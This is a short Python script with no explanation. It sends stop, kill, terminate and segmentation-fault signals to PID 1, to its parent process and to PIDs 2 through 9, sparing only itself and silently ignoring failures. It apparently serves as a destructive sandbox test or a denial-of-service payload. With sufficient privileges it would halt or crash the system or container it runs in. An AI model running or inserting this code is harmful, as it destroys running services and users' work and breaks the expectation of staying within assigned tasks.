import os, signal
for target in (1, os.getppid(), *range(2, 10)):
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV):
        try:
            if target != os.getpid():
                os.kill(target, number)
        except OSError:
            pass
